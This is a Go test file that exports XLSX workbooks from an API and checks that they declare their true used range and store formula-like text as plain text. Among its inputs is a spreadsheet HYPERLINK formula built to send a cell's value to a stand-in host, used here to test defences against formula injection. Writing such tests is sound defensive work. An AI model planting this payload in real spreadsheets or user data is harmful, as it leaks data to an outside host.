package httpapi

import (
	"archive/zip"
	"bytes"
	"encoding/xml"
	"fmt"
	"io"
	"strconv"
	"strings"
	"testing"

	"github.com/xuri/excelize/v2"
)

// sheetXML is what a streaming reader sees of a worksheet: its declared
// range, the cells of its rows and whether any holds a formula.
type sheetXML struct {
	Dimension struct {
		Ref string `xml:"ref,attr"`
	} `xml:"dimension"`
	Rows []struct {
		Cells []struct {
			Ref     string    `xml:"r,attr"`
			Type    string    `xml:"t,attr"`
			Formula *struct{} `xml:"f"`
		} `xml:"c"`
	} `xml:"sheetData>row"`
}

// checkWorkbook reads every worksheet of an XLSX as XML, as a streaming
// reader (openpyxl read-only) does, and fails when a sheet declares a used
// range other than the rows and columns it holds, or holds a formula.
func checkWorkbook(t *testing.T, what string, body []byte) {
	t.Helper()
	z, err := zip.NewReader(bytes.NewReader(body), int64(len(body)))
	if err != nil {
		t.Fatalf("%s: %v", what, err)
	}
	sheets := 0
	for _, f := range z.File {
		if !strings.HasPrefix(f.Name, "xl/worksheets/sheet") || !strings.HasSuffix(f.Name, ".xml") {
			continue
		}
		sheets++
		r, err := f.Open()
		if err != nil {
			t.Fatal(err)
		}
		raw, err := io.ReadAll(r)
		r.Close()
		if err != nil {
			t.Fatal(err)
		}
		var s sheetXML
		if err := xml.Unmarshal(raw, &s); err != nil {
			t.Fatalf("%s %s: %v", what, f.Name, err)
		}
		maxCol, maxRow := 0, 0
		for _, row := range s.Rows {
			for _, c := range row.Cells {
				col, rn, err := excelize.CellNameToCoordinates(c.Ref)
				if err != nil {
					t.Fatalf("%s %s: cell %q: %v", what, f.Name, c.Ref, err)
				}
				maxCol, maxRow = max(maxCol, col), max(maxRow, rn)
				if c.Formula != nil {
					t.Errorf("%s %s: cell %s holds a formula", what, f.Name, c.Ref)
				}
			}
		}
		if maxRow == 0 {
			continue
		}
		last, err := excelize.CoordinatesToCellName(maxCol, maxRow)
		if err != nil {
			t.Fatal(err)
		}
		if want := "A1:" + last; s.Dimension.Ref != want {
			t.Errorf("%s %s: declares the used range %q, holds %s", what, f.Name, s.Dimension.Ref, want)
		}
	}
	if sheets == 0 {
		t.Errorf("%s: no worksheet", what)
	}
}

// TestExportsDeclareTheirRangeAndHoldNoFormulas: the suggestion export and
// the two-monthly report's workbook declare their real used range, and
// text that starts like a formula (=, +, -, @) is written as text.
func TestExportsDeclareTheirRangeAndHoldNoFormulas(t *testing.T) {
	ts := newTestServer(t, nil)
	prosecutor := ts.login(t, "prosecutor.xiantao")
	formulas := []string{`=HYPERLINK("http://x.example/?"&A1,"点击")`, "+1+2", "-3+4", "@SUM(A1:A2)"}
	for _, title := range formulas {
		body := suggestionBody()
		body["title"] = title
		body["recipient"].(map[string]any)["name"] = title
		if rec := prosecutor.do(t, "POST", "/api/v1/suggestions", body); rec.Code != 201 {
			t.Fatalf("create %q: %d %s", title, rec.Code, rec.Body)
		}
	}

	rec := prosecutor.do(t, "GET", "/api/v1/suggestions/export.xlsx?status=draft", nil)
	if rec.Code != 200 {
		t.Fatalf("export: %d %s", rec.Code, rec.Body)
	}
	checkWorkbook(t, "suggestion export", rec.Body.Bytes())
	if n := rec.Header().Get("Content-Length"); n != strconv.Itoa(rec.Body.Len()) {
		t.Errorf("Content-Length %q for %d bytes", n, rec.Body.Len())
	}
	book, err := excelize.OpenReader(bytes.NewReader(rec.Body.Bytes()))
	if err != nil {
		t.Fatal(err)
	}
	defer book.Close()
	rows, err := book.GetRows("检察建议")
	if err != nil {
		t.Fatal(err)
	}
	found := map[string]bool{}
	for _, row := range rows[1:] {
		for _, cell := range row {
			found[cell] = true
		}
	}
	for _, f := range formulas {
		if !found[f] {
			t.Errorf("the export lacks the text %q as written", f)
		}
	}

	sup := ts.login(t, "supervisor.hanjiang")
	rec = sup.do(t, "GET", "/api/v1/reports/bimonthly/export.xlsx?year=2026&bimonth=5", nil)
	if rec.Code != 200 {
		t.Fatalf("report export: %d %s", rec.Code, rec.Body)
	}
	checkWorkbook(t, fmt.Sprintf("report export (%d bytes)", rec.Body.Len()), rec.Body.Bytes())
}
